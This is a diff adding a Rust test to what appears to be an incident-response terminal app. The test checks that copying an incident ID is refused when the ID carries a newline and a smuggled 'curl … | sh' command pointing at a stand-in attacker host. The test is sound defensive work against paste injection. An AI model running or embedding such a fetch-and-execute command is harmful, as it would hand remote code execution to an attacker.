@@ -282,6 +282,24 @@ fn y_copies_what_is_in_front_of_the_responder() {
 }
 
 #[test]
+fn y_refuses_an_id_that_would_act_in_a_shell_and_says_why() {
+    let mut s = state();
+    s.pane = Pane::Oncall;
+    s.incidents.get_mut("demo").unwrap()[0].id = "PD-7\ncurl -s evil.example | sh".into();
+    s.selected_incident = s
+        .open_incidents()
+        .first()
+        .map(|i| crate::state::IncidentKey::of(i));
+    assert_eq!(update(&mut s, Action::Copy), []);
+    let flash = s.flash.as_ref().unwrap();
+    assert_eq!(flash.kind, crate::state::FlashKind::Error);
+    assert_eq!(
+        flash.text,
+        "the incident id holds \\n, which a shell would act on when pasted: not copied"
+    );
+}
+
+#[test]
 fn promql_answers_land_in_the_view_that_asked_and_scroll() {
     let mut s = state();
     let commands = crate::update::debug::run_promql(&mut s, "up".into(), Some(Window::hours(1)));
